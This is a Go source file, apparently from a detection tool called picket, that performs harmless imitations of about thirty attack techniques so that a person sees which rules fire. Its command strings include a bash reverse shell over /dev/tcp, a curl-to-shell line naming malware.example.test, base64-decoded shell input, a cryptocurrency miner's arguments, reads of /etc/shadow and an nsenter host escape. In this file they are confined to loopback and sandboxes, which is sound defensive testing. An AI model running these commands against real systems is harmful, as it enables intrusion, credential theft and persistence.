// Package simulate performs harmless versions of real attack behaviours on
// this host, so that a person sees which rules fire. Each behaviour does to
// the kernel what the attack does (the same calls, files and names), on files
// of its own or in namespaces of its own, and cleans up after itself. Nothing
// leaves the machine.
package simulate

import (
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/net/dns/dnsmessage"
	"golang.org/x/sys/unix"
)

// Behaviour is one simulated attack.
type Behaviour struct {
	Name      string
	What      string // what it does, one sentence
	Technique string // ATT&CK id
	Rule      string // of the default pack, that it makes fire
	Root      bool   // works as root only
	run       func(ctx context.Context, e *env) error
}

// env is what a behaviour works with.
type env struct {
	dir  string // folder of its own, removed afterwards
	self string // this executable, for behaviours in namespaces
}

// Inner is the hidden first argument of this executable's simulate command
// that runs the part of a behaviour that needs a namespace.
const Inner = "inner"

// All returns every behaviour, in the order they are run.
func All() []Behaviour {
	return []Behaviour{
		{"reverse-shell", "bash opens an interactive shell over TCP to a listener on loopback", "T1059.004", "Reverse shell command line", false, reverseShell},
		{"socket-shell", "bash puts a connection to a listener on loopback on its standard input", "T1059.004", "Shell on a socket", false, socketShell},
		{"fileless-exec", "runs a program from an anonymous memory file", "T1620", "Program run from memory", false, memfdExec},
		{"deleted-exec", "runs a program whose file is already deleted", "T1070.004", "Deleted program run", false, deletedExec},
		{"tmp-exec", "runs a program that was just written under /tmp", "T1059", "Program run from a temporary folder", false, copiedExec("/tmp", "updater")},
		{"shm-exec", "runs a program that was just written under /dev/shm", "T1059", "Program run from shared memory", false, copiedExec("/dev/shm", "kworkerd")},
		{"miner", "starts a program with the arguments of a cryptocurrency miner", "T1496", "Cryptocurrency miner run", false, fakeTool("xmrig", "-o", "stratum+tcp://pool.example.test:3333", "-u", "wallet")},
		{"download-and-run", "a shell command line that pipes a download into a shell (the download does not run)", "T1105", "Download piped into a shell", false, shell("true || curl -s http://malware.example.test/x.sh | sh")},
		{"decoded-shell", "pipes a base64-decoded command into a shell", "T1140", "Base64 decoded into a shell", false, shell("echo dHJ1ZQ== | base64 -d | sh")},
		{"webshell", "a process named like a web server starts a shell", "T1505.003", "Web server starts a shell", false, webshell},
		{"network-scan", "starts a program named like a network scanner", "T1046", "Network scanner run", false, fakeTool("nmap", "-sS", "127.0.0.0/30")},
		{"clear-history", "empties a shell's history file", "T1070.003", "Shell history cleared", false, clearHistory},
		{"authorized-keys", "adds a key to an authorized_keys file", "T1098.004", "SSH authorized keys changed", false, authorizedKeys},
		{"setuid", "sets the setuid bit on a program of its own", "T1548.001", "Setuid bit set", false, setuid},
		{"link-shadow", "makes a symbolic link to /etc/shadow", "T1003.008", "Sensitive file linked", false, linkShadow},
		{"read-shadow", "cat reads /etc/shadow", "T1003.008", "Password hashes read", true, command("cat", "/etc/shadow")},
		{"cron", "writes a job into /etc/cron.d (commented out)", "T1053.003", "Scheduled task written", true, cron("/etc/cron.d/picket-simulation")},
		{"preload", "opens /etc/ld.so.preload for writing and leaves it as it is", "T1574.006", "Dynamic linker preload written", true, touchOpen("/etc/ld.so.preload")},
		{"preload-variable", "starts a program with LD_PRELOAD set to a file in a temporary folder that is no library", "T1574.006", "Library preloaded from a temporary folder", false, preloadVariable},
		{"core-pattern", "opens /proc/sys/kernel/core_pattern for writing and leaves it as it is", "T1611", "Kernel interface written for an escape", true, touchOpen("/proc/sys/kernel/core_pattern")},
		{"binary-directory", "writes a file into /usr/local/bin", "T1554", "Program folder written", true, binaryDirectory},
		{"kernel-module", "starts a program named insmod on a module that does not exist", "T1547.006", "Kernel module tool run", false, fakeTool("insmod", "/tmp/rootkit.ko")},
		{"module-load", "offers a file that is no module to the kernel as one", "T1547.006", "Kernel module loaded", false, moduleLoad},
		{"bpf-program", "loads an eBPF program that does nothing and is attached to nothing", "T1014", "eBPF program loaded", false, inner("bpf-program", 0)},
		{"process-injection", "attaches to a process of its own as a debugger does, and lets it go", "T1055.008", "Another process manipulated", false, inner("process-injection", 0)},
		{"kill-agent", "kills a process of its own that is named like the audit daemon", "T1685", "Security agent stopped", false, killAgent},
		{"sniffer", "opens a packet socket, and closes it", "T1040", "Packet socket opened", false, sniffer},
		{"kexec", "asks for a new kernel with arguments that the kernel refuses", "T1014", "Kernel replaced", false, kexec},
		{"host-namespace", "starts a program named nsenter with the arguments of an escape to the host", "T1611", "Host namespaces entered", false, fakeTool("nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "/bin/sh")},
		{"metadata-service", "connects to the cloud metadata address, in a network namespace of its own", "T1552.005", "Cloud metadata service contacted", true, inner("metadata-service", unix.CLONE_NEWNET)},
		{"mining-pool-lookup", "asks for the name of a mining pool at port 53 of loopback, where nobody need answer", "T1496", "Mining pool looked up", false, lookUp("pool.supportxmr.com.")},
		{"onion-lookup", "asks for a name of the Tor network in the same way", "T1090.003", "Anonymity network looked up", false, lookUp("picketsimulation.onion.")},
		{"service-account-token", "reads a Kubernetes service account token, in a mount namespace of its own", "T1528", "Service account token read", true, inner("service-account-token", unix.CLONE_NEWNS)},
	}
}

// Run performs the named behaviours, or all of them. Progress goes to out.
// Those that need root are left out, with a line that says so, when the
// process is not root.
func Run(ctx context.Context, out io.Writer, names []string) error {
	all := All()
	for _, n := range names {
		if !slices.ContainsFunc(all, func(b Behaviour) bool { return b.Name == n }) {
			return fmt.Errorf("there is no behaviour %q (picket simulate --list shows them)", n)
		}
	}
	self, err := os.Executable()
	if err != nil {
		return err
	}
	for _, b := range all {
		if len(names) > 0 && !slices.Contains(names, b.Name) {
			continue
		}
		if b.Root && os.Geteuid() != 0 {
			fmt.Fprintf(out, "left out   %-22s needs root\n", b.Name)
			continue
		}
		fmt.Fprintf(out, "simulating %-22s %s (%s)\n", b.Name, b.What, b.Technique)
		if err := one(ctx, b, self); err != nil {
			return fmt.Errorf("simulation %s: %w", b.Name, err)
		}
	}
	return nil
}

func one(ctx context.Context, b Behaviour, self string) (err error) {
	ctx, cancel := context.WithTimeout(ctx, 20*time.Second)
	defer cancel()
	dir, err := os.MkdirTemp("", "picket-simulate-")
	if err != nil {
		return err
	}
	defer func() { err = errors.Join(err, os.RemoveAll(dir)) }()
	return b.run(ctx, &env{dir: dir, self: self})
}

// run runs a command without its output.
func run(ctx context.Context, name string, args ...string) error {
	return quiet(exec.CommandContext(ctx, name, args...))
}

func quiet(cmd *exec.Cmd) error {
	if out, err := cmd.CombinedOutput(); err != nil {
		return fmt.Errorf("%s: %w: %s", cmd.Args[0], err, strings.TrimSpace(string(out)))
	}
	return nil
}

func command(name string, args ...string) func(context.Context, *env) error {
	return func(ctx context.Context, _ *env) error { return run(ctx, name, args...) }
}

func shell(line string) func(context.Context, *env) error { return command("/bin/sh", "-c", line) }

// copyTrue puts a copy of a program that does nothing at path.
func copyTrue(path string) error { return copyProgram("true", path) }

func copyProgram(name, path string) error {
	from, err := exec.LookPath(name)
	if err != nil {
		return err
	}
	if from, err = filepath.EvalSymlinks(from); err != nil {
		return err
	}
	b, err := os.ReadFile(from)
	if err != nil {
		return err
	}
	return os.WriteFile(path, b, 0o755)
}

// runFresh runs a file that was just written. Another thread of this process
// may fork while the file is open for writing, and its child then holds it
// until it execs: ETXTBSY passes.
func runFresh(ctx context.Context, path string, args ...string) error {
	for {
		err := run(ctx, path, args...)
		if !errors.Is(err, syscall.ETXTBSY) || ctx.Err() != nil {
			return err
		}
		time.Sleep(time.Millisecond)
	}
}

func fakeTool(name string, args ...string) func(context.Context, *env) error {
	return func(ctx context.Context, e *env) error {
		path := filepath.Join(e.dir, name)
		if err := copyTrue(path); err != nil {
			return err
		}
		return runFresh(ctx, path, args...)
	}
}

func copiedExec(where, name string) func(context.Context, *env) error {
	return func(ctx context.Context, _ *env) (err error) {
		dir, err := os.MkdirTemp(where, ".picket-simulate-")
		if err != nil {
			return err
		}
		defer func() { err = errors.Join(err, os.RemoveAll(dir)) }()
		path := filepath.Join(dir, name)
		if err := copyTrue(path); err != nil {
			return err
		}
		return runFresh(ctx, path)
	}
}

// lookUp sends a question for a name to loopback.
func lookUp(name string) func(context.Context, *env) error {
	return func(context.Context, *env) error {
		b := dnsmessage.NewBuilder(nil, dnsmessage.Header{ID: 1, RecursionDesired: true})
		n, err := dnsmessage.NewName(name)
		if err != nil {
			return err
		}
		if err := errors.Join(b.StartQuestions(), b.Question(dnsmessage.Question{Name: n, Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET})); err != nil {
			return err
		}
		msg, err := b.Finish()
		if err != nil {
			return err
		}
		conn, err := net.Dial("udp", "127.0.0.1:53")
		if err != nil {
			return err
		}
		defer conn.Close()
		_, err = conn.Write(msg)
		return err
	}
}

func reverseShell(ctx context.Context, e *env) error {
	return onSocket(ctx, e, "bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1")
}

func socketShell(ctx context.Context, e *env) error {
	return onSocket(ctx, e, "exec 3<>/dev/tcp/127.0.0.1/$PORT; exec <&3; read line")
}

// onSocket runs a line of bash with a port of loopback that listens.
func onSocket(ctx context.Context, e *env, line string) error {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return err
	}
	defer ln.Close()
	done := make(chan error, 1)
	go func() { // ends with the connection, or with the listener
		c, err := ln.Accept()
		if err == nil {
			defer c.Close()
			_, err = io.WriteString(c, "exit\n")
			_, _ = io.Copy(io.Discard, c) // the prompt; ends when the shell does
		}
		done <- err
	}()
	_, port, err := net.SplitHostPort(ln.Addr().String())
	if err != nil {
		return err
	}
	cmd := exec.CommandContext(ctx, "/bin/bash", "-c", line)
	// An interactive shell runs the user's .bashrc and writes to the history.
	cmd.Env = append(os.Environ(), "HOME="+e.dir, "HISTFILE=", "PORT="+port)
	if err := quiet(cmd); err != nil {
		return err
	}
	return <-done
}

func memfdExec(ctx context.Context, e *env) error {
	fd, err := unix.MemfdCreate("payload", 0)
	if err != nil {
		return err
	}
	f := os.NewFile(uintptr(fd), "memfd")
	defer f.Close()
	return fromDescriptor(ctx, e, f)
}

func deletedExec(ctx context.Context, e *env) error {
	f, err := os.CreateTemp(e.dir, "dropper")
	if err != nil {
		return err
	}
	defer f.Close()
	if err := errors.Join(f.Chmod(0o755), os.Remove(f.Name())); err != nil {
		return err
	}
	return fromDescriptor(ctx, e, f)
}

// fromDescriptor fills f with a program and runs it by its descriptor. The
// file is opened again for reading: one open for writing cannot be run.
func fromDescriptor(ctx context.Context, e *env, f *os.File) error {
	path := filepath.Join(e.dir, "program")
	if err := copyTrue(path); err != nil {
		return err
	}
	b, err := os.ReadFile(path)
	if err != nil {
		return err
	}
	if _, err := f.Write(b); err != nil {
		return err
	}
	r, err := os.Open(fmt.Sprintf("/proc/self/fd/%d", f.Fd()))
	if err != nil {
		return err
	}
	defer r.Close()
	if err := f.Close(); err != nil {
		return err
	}
	for {
		cmd := exec.CommandContext(ctx, "/proc/self/fd/3")
		cmd.Args = []string{"payload"}
		cmd.ExtraFiles = []*os.File{r} // becomes descriptor 3
		if err := cmd.Run(); !errors.Is(err, syscall.ETXTBSY) || ctx.Err() != nil {
			return err
		}
		time.Sleep(time.Millisecond)
	}
}

// preloadVariable names a file that the loader leaves out with a warning.
func preloadVariable(ctx context.Context, _ *env) (err error) {
	f, err := os.CreateTemp("/tmp", ".picket-simulate-")
	if err != nil {
		return err
	}
	defer func() { err = errors.Join(err, f.Close(), os.Remove(f.Name())) }()
	cmd := exec.CommandContext(ctx, "true")
	cmd.Env = append(os.Environ(), "LD_PRELOAD="+f.Name())
	return quiet(cmd)
}

func webshell(ctx context.Context, e *env) error {
	path := filepath.Join(e.dir, "nginx")
	if err := copyProgram("sh", path); err != nil {
		return err
	}
	// Two commands, so that the outer shell stays and is the parent.
	return runFresh(ctx, path, "-c", "/bin/sh -c 'id > /dev/null'; true")
}

func clearHistory(ctx context.Context, e *env) error {
	return run(ctx, "/bin/sh", "-c", `: > "$0"`, filepath.Join(e.dir, ".bash_history"))
}

func authorizedKeys(ctx context.Context, e *env) error {
	ssh := filepath.Join(e.dir, ".ssh")
	if err := os.Mkdir(ssh, 0o700); err != nil {
		return err
	}
	return run(ctx, "/bin/sh", "-c", `echo "ssh-ed25519 AAAA simulated" >> "$0"`, filepath.Join(ssh, "authorized_keys"))
}

func linkShadow(ctx context.Context, e *env) error {
	return run(ctx, "ln", "-s", "/etc/shadow", filepath.Join(e.dir, "notes"))
}

func setuid(ctx context.Context, e *env) error {
	path := filepath.Join(e.dir, "suid")
	if err := copyTrue(path); err != nil {
		return err
	}
	return run(ctx, "chmod", "u+s", path)
}

// cron writes a job, and the folder where there is no cron.
func cron(path string) func(context.Context, *env) error {
	return func(ctx context.Context, _ *env) (err error) {
		dir := filepath.Dir(path)
		switch e := os.Mkdir(dir, 0o755); {
		case e == nil:
			defer func() { err = errors.Join(err, os.Remove(dir)) }()
		case !errors.Is(e, os.ErrExist):
			return e
		}
		defer func() { err = errors.Join(err, os.Remove(path)) }()
		return run(ctx, "/bin/sh", "-c", `echo "# simulated by picket" > "$0"`, path)
	}
}

// touchOpen opens a file for appending, and appends nothing.
func touchOpen(path string) func(context.Context, *env) error {
	return func(ctx context.Context, _ *env) (err error) {
		if _, e := os.Lstat(path); errors.Is(e, os.ErrNotExist) {
			defer func() { err = errors.Join(err, os.Remove(path)) }()
		}
		return run(ctx, "/bin/sh", "-c", `: >> "$0"`, path)
	}
}

func binaryDirectory(ctx context.Context, _ *env) (err error) {
	path := "/usr/local/bin/picket-simulation"
	defer func() { err = errors.Join(err, os.Remove(path)) }()
	return run(ctx, "/bin/sh", "-c", `echo "#!/bin/true" > "$0"`, path)
}

// inner runs a part of this executable in new namespaces.
func inner(name string, namespaces uintptr) func(context.Context, *env) error {
	return func(ctx context.Context, e *env) error {
		cmd := exec.CommandContext(ctx, e.self, "simulate", Inner, name)
		cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: namespaces}
		if out, err := cmd.CombinedOutput(); err != nil {
			return fmt.Errorf("%w: %s", err, strings.TrimSpace(string(out)))
		}
		return nil
	}
}

// RunInner is what the re-executed process does.
func RunInner(name string) error {
	switch name {
	case "bpf-program":
		return bpfProgram()
	case "process-injection":
		return processInjection()
	case "metadata-service":
		return metadataService()
	case "service-account-token":
		return serviceAccountToken()
	}
	return fmt.Errorf("there is no inner part %q", name)
}

// moduleLoad is refused: for its rights, or because the file is no module.
func moduleLoad(_ context.Context, e *env) error {
	path := filepath.Join(e.dir, "rootkit.ko")
	if err := os.WriteFile(path, []byte("no module"), 0o600); err != nil {
		return err
	}
	f, err := os.Open(path)
	if err != nil {
		return err
	}
	defer f.Close()
	return refused(unix.FinitModule(int(f.Fd()), "", 0))
}

// refused is for calls that are made to be refused.
func refused(err error) error {
	if err == nil {
		return errors.New("the kernel did not refuse it")
	}
	return nil
}

// kexec asks for flags that do not exist, so that no kernel takes it.
func kexec(context.Context, *env) error {
	_, _, errno := unix.Syscall6(unix.SYS_KEXEC_LOAD, 0, 0, 0, ^uintptr(0), 0, 0)
	return refused(errnoError(errno))
}

// sniffer is refused without the right to it, which is an attempt all the same.
func sniffer(context.Context, *env) error {
	switch fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, 0); {
	case err == nil:
		return unix.Close(fd)
	case errors.Is(err, unix.EPERM):
		return nil
	default:
		return err
	}
}

func errnoError(errno syscall.Errno) error {
	if errno == 0 {
		return nil
	}
	return errno
}

// bpfProgram loads "return 0"; without the right to it the kernel refuses,
// which is an attempt all the same.
func bpfProgram() error {
	instructions := []uint64{0xb7, 0x95} // r0 = 0; exit
	license := []byte("GPL\x00")
	var attr [16]uint64 // union bpf_attr of linux/bpf.h
	attr[0] = uint64(len(instructions))<<32 | unix.BPF_PROG_TYPE_SOCKET_FILTER
	attr[1] = uint64(uintptr(unsafe.Pointer(&instructions[0])))
	attr[2] = uint64(uintptr(unsafe.Pointer(&license[0])))
	copy((*[16]byte)(unsafe.Pointer(&attr[6]))[:], "simulated")
	fd, _, errno := unix.Syscall(unix.SYS_BPF, unix.BPF_PROG_LOAD, uintptr(unsafe.Pointer(&attr)), unsafe.Sizeof(attr))
	runtime.KeepAlive(instructions)
	runtime.KeepAlive(license)
	switch {
	case errno == 0:
		return unix.Close(int(fd))
	case errno == unix.EPERM, errno == unix.EACCES:
		return nil
	}
	return errno
}

func processInjection() error {
	runtime.LockOSThread() // who attaches is a thread
	victim := exec.Command("sleep", "10")
	if err := victim.Start(); err != nil {
		return err
	}
	defer func() {
		_ = victim.Process.Kill() // it may have ended by itself
		_ = victim.Wait()
	}()
	pid := victim.Process.Pid
	if err := unix.PtraceAttach(pid); err != nil {
		return err
	}
	if _, err := unix.Wait4(pid, nil, 0, nil); err != nil {
		return err
	}
	return unix.PtraceDetach(pid)
}

func killAgent(ctx context.Context, e *env) error {
	path := filepath.Join(e.dir, "auditd")
	if err := copyProgram("sleep", path); err != nil {
		return err
	}
	for {
		agent := exec.CommandContext(ctx, path, "10")
		switch err := agent.Start(); {
		case err == nil:
			time.Sleep(20 * time.Millisecond) // it runs
			err = agent.Process.Kill()
			_ = agent.Wait() // it was killed
			return err
		case !errors.Is(err, syscall.ETXTBSY) || ctx.Err() != nil:
			return err
		}
		time.Sleep(time.Millisecond)
	}
}

// metadataAddress is where every large cloud serves instance metadata.
var metadataAddress = [4]byte{169, 254, 169, 254}

// metadataService gives the namespace's loopback the metadata address, and
// connects to it there.
func metadataService() error {
	s, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(s)
	lo, err := unix.NewIfreq("lo")
	if err != nil {
		return err
	}
	lo.SetUint16(unix.IFF_UP)
	if err := unix.IoctlIfreq(s, unix.SIOCSIFFLAGS, lo); err != nil {
		return fmt.Errorf("loopback up: %w", err)
	}
	alias, err := unix.NewIfreq("lo:0")
	if err != nil {
		return err
	}
	if err := alias.SetInet4Addr(metadataAddress[:]); err != nil {
		return err
	}
	if err := unix.IoctlIfreq(s, unix.SIOCSIFADDR, alias); err != nil {
		return fmt.Errorf("address: %w", err)
	}
	addr := net.JoinHostPort(net.IP(metadataAddress[:]).String(), "80")
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return err
	}
	defer ln.Close()
	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return err
	}
	return c.Close()
}

// serviceAccountToken mounts an empty file system over /run in its own mount
// namespace, puts a token there and has cat read it.
func serviceAccountToken() error {
	if err := unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""); err != nil {
		return fmt.Errorf("private mounts: %w", err)
	}
	if err := unix.Mount("tmpfs", "/run", "tmpfs", 0, "size=1m"); err != nil {
		return fmt.Errorf("tmpfs: %w", err)
	}
	dir := "/run/secrets/kubernetes.io/serviceaccount"
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	token := filepath.Join(dir, "token")
	if err := os.WriteFile(token, []byte("simulated"), 0o600); err != nil {
		return err
	}
	return run(context.Background(), "cat", token)
}
